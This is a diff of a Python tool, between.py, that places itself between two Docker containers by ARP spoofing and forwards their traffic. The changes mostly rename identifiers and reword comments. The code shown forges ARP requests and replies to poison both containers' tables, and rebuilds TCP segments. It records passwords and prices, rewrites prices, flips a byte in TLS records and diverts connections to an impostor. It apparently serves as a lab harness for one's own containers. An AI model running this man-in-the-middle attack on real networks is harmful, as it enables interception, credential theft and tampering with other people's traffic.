@@ -1,12 +1,13 @@
-"""Gets between two containers on one Docker network, by ARP alone, and carries what they say to each other.
+"""Puts itself between two containers on one Docker network by ARP spoofing, and forwards their packets.
 
     between.py watch|change|flip VICTIM PEER              reads · changes a price · changes one byte of each TLS record
     between.py divert VICTIM PEER IMPOSTOR GHOST           leads VICTIM's connections to IMPOSTOR instead of PEER
 
-It tells both that the other's address is at this container's MAC address, so that each frame between them comes here, and
-sends it on itself. GHOST is an unused address, from which diverted connections seem to come, so that answers pass here too.
-It needs a raw socket (NET_RAW, which Docker gives to every container). It is for containers of your own: nothing here
-reaches beyond the network that it was put on. One line of JSON at SIGTERM tells what it read and did.
+How this works. It sends both containers ARP packets that give its own MAC address for the other's IP address. So each frame
+between them arrives here, and is forwarded by this program. GHOST is an unused address: diverted connections seem to come
+from it, so their answers pass here too. It needs a raw socket (NET_RAW, which Docker gives to every container). Use it on
+your own containers only; it has no effect beyond the network that it is on. At SIGTERM it prints one line of JSON that says
+what it read and did.
 """
 
 from __future__ import annotations
@@ -47,30 +48,30 @@ class Between:
         self.prices: set[str] = set()
         self.kinds = {"plaintext": 0, "tls": 0}
         self.sample = b""
-        self.asked: set[bytes] = set()
+        self.requested: set[bytes] = set()
 
-    # -- getting between ----------------------------------------------------------------------------------------------
+    # -- ARP spoofing -------------------------------------------------------------------------------------------------
 
     def poison(self) -> None:
         while not self.done:
-            for told, claimed in ((self.victim, self.peer), (self.peer, self.victim)):
-                for operation in (1, 2):  # a question from the wrong place makes an entry; an answer changes it
-                    self.arp(operation, claimed, told, self.macs[told])
+            for target, claimed in ((self.victim, self.peer), (self.peer, self.victim)):
+                for operation in (1, 2):  # a request creates an entry in the target's ARP table; a reply changes one
+                    self.arp(operation, claimed, target, self.macs[target])
             time.sleep(0.2)
 
     def restore(self) -> None:
-        """Whoever leaves without this has cut them off from each other, until their entries are old."""
-        for told, claimed in ((self.victim, self.peer), (self.peer, self.victim)):
+        """Corrects both ARP tables. Without this the containers stay cut off from each other until the entries expire."""
+        for target, claimed in ((self.victim, self.peer), (self.peer, self.victim)):
             for operation in (1, 2):
-                self.arp(operation, claimed, told, self.macs[told], self.macs[claimed])
+                self.arp(operation, claimed, target, self.macs[target], self.macs[claimed])
 
-    def arp(self, operation: int, claimed: str, told: str, mac: bytes, at: bytes = b"") -> None:
-        """Tells ``told`` that ``claimed`` is ``at`` that MAC address, ours if none is given."""
+    def arp(self, operation: int, claimed: str, target: str, mac: bytes, at: bytes = b"") -> None:
+        """Sends ``target`` an ARP packet: ``claimed`` has the MAC address ``at``, or this container's if that is empty."""
         body = struct.pack("!HHBBH", 1, IP, 6, 4, operation)
-        body += (at or self.mac) + socket.inet_aton(claimed) + mac + socket.inet_aton(told)
+        body += (at or self.mac) + socket.inet_aton(claimed) + mac + socket.inet_aton(target)
         self.socket.send(mac + self.mac + struct.pack("!H", ARP) + body)
 
-    # -- carrying -----------------------------------------------------------------------------------------------------
+    # -- forwarding ---------------------------------------------------------------------------------------------------
 
     def carry(self) -> None:
         while True:
@@ -110,7 +111,7 @@ class Between:
         self.send(to, packet[:header], source, target, segment[:offset], payload)
 
     def send(self, to: str, head: bytes, source: str, target: str, tcp: bytes, payload: bytes) -> None:
-        """In pieces: what comes from a container on this machine may be larger than what may be sent."""
+        """Sends in pieces: a packet from a container on this machine may be larger than the MTU."""
         sequence = struct.unpack_from("!I", tcp, 4)[0]
         ends = socket.inet_aton(source) + socket.inet_aton(target)
         for at in range(0, max(len(payload), 1), MSS):
@@ -133,10 +134,10 @@ class Between:
     # -- reading and changing -----------------------------------------------------------------------------------------
 
     def read(self, payload: bytes, caller: bytes, is_answer: bool) -> bytes:
-        """What is sent instead. ``caller`` is the victim's port: which connection it is."""
+        """Returns the payload to forward. ``caller`` is the victim's port, which identifies the connection."""
         if not payload:
             return payload
-        if not self.asked:
+        if not self.requested:
             print(json.dumps({"event": "between"}), flush=True)
         self.kinds["tls" if payload[0] in (0x14, 0x15, 0x16, 0x17) else "plaintext"] += 1
         if not self.sample or payload[0] == 0x17:
@@ -147,14 +148,14 @@ class Between:
         changed = payload
         if self.mode == "change":
             changed = PRICE.sub(CHANGED, payload)
-        elif self.mode == "flip" and is_answer and caller in self.asked and payload[0] == 0x17:
-            changed = payload[:-1] + bytes([payload[-1] ^ 1])  # in what answers a question, not in the handshake
-        if not is_answer and (payload[0] == 0x17 or not self.asked):
-            self.asked.add(caller if payload[0] == 0x17 else b"")
+        elif self.mode == "flip" and is_answer and caller in self.requested and payload[0] == 0x17:
+            changed = payload[:-1] + bytes([payload[-1] ^ 1])  # in the answer to a request, not in the handshake
+        if not is_answer and (payload[0] == 0x17 or not self.requested):
+            self.requested.add(caller if payload[0] == 0x17 else b"")
         self.changed += changed != payload
         return changed
 
-    def told(self) -> dict[str, Any]:
+    def result(self) -> dict[str, Any]:
         return {
             "frames": self.frames, "changed": self.changed, "diverted": self.diverted, "kinds": self.kinds,
             "passwords": sorted(self.passwords), "prices": sorted(self.prices), "sample": self.sample.hex(),
@@ -171,7 +172,7 @@ def checksum(data: bytes) -> int:
 
 
 def find_mac(address: str) -> bytes:
-    """By sending something there, and asking the kernel what it learnt."""
+    """The MAC address of ``address``: sends it a datagram, then reads the kernel's ARP table."""
     for _ in range(50):
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
             probe.sendto(b"?", (address, 9))
@@ -191,7 +192,7 @@ def main() -> None:
         for _ in range(5):
             between.restore()
             time.sleep(0.3)
-        print(json.dumps(between.told()), flush=True)
+        print(json.dumps(between.result()), flush=True)
         raise SystemExit(0)
 
     signal.signal(signal.SIGTERM, end)
